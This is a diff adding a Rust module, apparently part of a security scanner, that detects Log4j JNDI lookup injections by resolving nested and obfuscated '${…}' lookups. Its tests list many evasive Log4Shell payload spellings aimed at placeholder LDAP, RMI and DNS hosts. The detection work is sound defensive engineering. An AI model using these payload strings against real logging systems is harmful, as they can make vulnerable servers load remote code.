@@ -1,0 +1,167 @@
+//! Lookups of loggers and configuration (`${…}`), put together as their reader would.
+//!
+//! `${${lower:j}ndi:…}` and `${${::-j}${env:X:-n}di:…}` are `${jndi:…}` once the inner ones are resolved; there are as many
+//! spellings as names of variables that nobody has set. So they are resolved from the inside out, as Log4j does: a
+//! default stands for what is unknown, case and date formats give their text.
+
+use std::ops::Range;
+
+use base64::Engine as _;
+
+use super::{Family, Found, Look};
+
+/// See the module.
+pub(super) const FAMILY: Family = Family { name: "lookup", kinds: &["jndi"], look };
+
+/// Deeper lookups are read as text.
+const MAX_DEPTH: usize = 32;
+/// A lookup's content beyond it is dropped: what decides stands at its beginning.
+const MAX_CONTENT: usize = 4096;
+
+/// A lookup that is not closed yet: where it begins, and its content so far with inner ones resolved.
+struct Lookup {
+    start: usize,
+    content: String,
+}
+
+fn look(look: &Look<'_>, found: &mut Found<'_>) {
+    if let Some(range) = memchr::memmem::find(look.view.as_bytes(), b"${").and_then(|first| jndi(look.view, first)) {
+        found(0, range);
+    }
+}
+
+/// The first lookup, from byte `first` on, that is one of JNDI when resolved.
+fn jndi(text: &str, first: usize) -> Option<Range<usize>> {
+    let mut open: Vec<Lookup> = Vec::new();
+    let mut at = first;
+    while let Some(rest) = text.get(at..).filter(|rest| !rest.is_empty()) {
+        if rest.starts_with("${") && open.len() < MAX_DEPTH {
+            open.push(Lookup { start: at, content: String::new() });
+            at = at.saturating_add(2);
+            continue;
+        }
+        let Some(lookup) = open.last_mut() else {
+            at = at.saturating_add(memchr::memmem::find(rest.as_bytes(), b"${")?);
+            continue;
+        };
+        if rest.starts_with('}') {
+            at = at.saturating_add(1);
+            let Some(lookup) = open.pop() else { continue };
+            if is_jndi(&lookup.content) {
+                return Some(lookup.start..at);
+            }
+            let value = resolve(&lookup.content);
+            if let Some(outer) = open.last_mut() {
+                append(&mut outer.content, &value);
+            } else if value.contains("${") && is_jndi(value.split("${").nth(1).unwrap_or_default()) {
+                return Some(lookup.start..at);
+            }
+            continue;
+        }
+        // Up to the next brace, or the `$` before one; at least one character.
+        let step = rest.char_indices().skip(1).find(|(_, c)| matches!(c, '$' | '}')).map_or(rest.len(), |(next, _)| next);
+        append(&mut lookup.content, rest.get(..step).unwrap_or_default());
+        at = at.saturating_add(step);
+    }
+    // Cut off before its end; loggers that cut lines resolve what is left elsewhere.
+    open.iter().find(|lookup| is_jndi(&lookup.content)).map(|lookup| lookup.start..text.len())
+}
+
+fn append(content: &mut String, more: &str) {
+    let room = MAX_CONTENT.saturating_sub(content.len());
+    content.push_str(more.get(..more.floor_char_boundary(room)).unwrap_or_default());
+}
+
+/// Whether a lookup with this content is one of JNDI, or hides the end of one.
+fn is_jndi(content: &str) -> bool {
+    let mut name = content.chars().filter(|c| !c.is_whitespace()).flat_map(char::to_lowercase).take(16).collect::<String>();
+    // Unicode has letters whose capitals are I and K.
+    name = name.replace('ı', "i").replace('\u{212a}', "k");
+    name.strip_prefix("jndi").is_some_and(|rest| rest.starts_with(':') || rest.starts_with("%3a"))
+}
+
+/// What a reader puts in the place of a lookup.
+fn resolve(content: &str) -> String {
+    if let Some((_, default)) = content.split_once(":-") {
+        return default.to_owned();
+    }
+    let (kind, argument) = content.split_once(':').unwrap_or((content, ""));
+    match kind.trim().to_ascii_lowercase().as_str() {
+        "lower" => argument.to_lowercase(),
+        "upper" => argument.to_uppercase(),
+        // Quoted letters of a date format stand for themselves.
+        "date" => argument.replace('\'', ""),
+        "base64" => base64::engine::general_purpose::STANDARD
+            .decode(argument.trim())
+            .ok()
+            .and_then(|bytes| String::from_utf8(bytes).ok())
+            .unwrap_or_default(),
+        _ => String::new(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    fn finds(text: &str) -> bool {
+        memchr::memmem::find(text.as_bytes(), b"${").and_then(|first| jndi(text, first)).is_some()
+    }
+
+    #[test]
+    fn lookups_are_put_together() {
+        for text in [
+            "${jndi:ldap://x.example.org/a}",
+            "a ${ jndi : rmi://x.example.org/a",
+            "${${lower:j}${upper:n}d${lower:I}:ldap://x.example.org/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://x.example.org}",
+            "${${env:NOBODY_SET_THIS:-j}ndi${sys:x:-:}dns://x.example.org}",
+            "${${lower:${upper:${lower:jndi}}}:x}",
+            "${${date:'j'}${date:'ndi'}:ldap://x}",
+            "${${base64:am5kaTpsZGFwOi8veA==}}",
+            "${jnd${upper:ı}:ldap://x}",
+            "${x:-${jndi:dns://x}}",
+            "${env:x} and ${ctx:y} and ${jNdI:ldap://x}",
+        ] {
+            assert!(finds(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn variables_are_let_be() {
+        for text in [
+            "${HOME:-/root}/bin",
+            "${a:-${b:-c}}",
+            "image: ${REGISTRY:-docker.io}/app:${TAG:-latest}",
+            "${java.home}",
+            "jndi:ldap://x is what it looks for",
+            "`${a}${b}`",
+            "${lower:JDBC}",
+            "$${ } ${",
+        ] {
+            assert!(!finds(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn hostile_nesting_is_bounded() {
+        for piece in ["${", "${lower:", "${a:-", "${}", "$", "}", "${x", "${${::-j}"] {
+            let text = piece.repeat((1 << 20) / piece.len());
+            let begun = std::time::Instant::now();
+            finds(&text);
+            finds(&format!("{text}{}", "}".repeat(1 << 18)));
+            assert!(begun.elapsed().as_secs() < 5, "{piece:?} took {:?}", begun.elapsed());
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn any_text_is_read(parts in proptest::collection::vec(prop_oneof![
+            Just("${"), Just("}"), Just(":-"), Just("lower:"), Just("upper:"), Just("base64:"), Just("date:"), Just("j"), Just("ndi"), Just("é"), Just("$"),
+        ], 0..80)) {
+            finds(&parts.concat());
+        }
+    }
+}
